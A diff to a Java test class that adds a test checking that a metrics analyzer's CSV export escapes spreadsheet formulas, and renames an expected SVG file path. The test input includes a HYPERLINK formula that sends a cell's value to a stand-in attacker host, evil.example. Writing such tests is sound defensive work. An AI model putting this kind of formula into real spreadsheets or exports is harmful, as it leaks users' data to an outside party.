@@ -106,6 +106,26 @@ class AnalyzerTest {
   }
 
   @Test
+  void publishedCsvCellsCannotRunAsSpreadsheetFormulas() throws IOException {
+    String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+    graph.write(
+        tx ->
+            tx.run("MATCH (p:Project {id: 'alpha'}) SET p.name = $n", Map.of("n", formula))
+                .consume());
+    graph.write(tx -> tx.run("MATCH (p:Project {id: 'beta'}) SET p.name = '@SUM(1+1)'").consume());
+    analyze(history());
+
+    Map<String, String> names = new java.util.HashMap<>();
+    for (CSVRecord row : csv(workspace.metrics().resolve("projects.csv"))) {
+      names.put(row.get("id"), row.get("name"));
+    }
+    assertThat(names)
+        .containsEntry("alpha", "'" + formula)
+        .containsEntry("beta", "'@SUM(1+1)")
+        .containsEntry("gamma", "Gamma");
+  }
+
+  @Test
   void writesMetricsOntoTheGraphAndTheSameValuesIntoTheCsvFiles() throws IOException {
     AnalysisReport report = analyze(history());
 
@@ -245,7 +265,7 @@ class AnalyzerTest {
     assertThat(first.keySet())
         .contains(
             Path.of("projects/alpha.svg"),
-            Path.of("projects/alpha-spark.svg"),
+            Path.of("projects/alpha.spark.svg"),
             Path.of("categories/data.svg"),
             Path.of("backers/acme.svg"));
     assertThat(second.keySet()).isEqualTo(first.keySet());
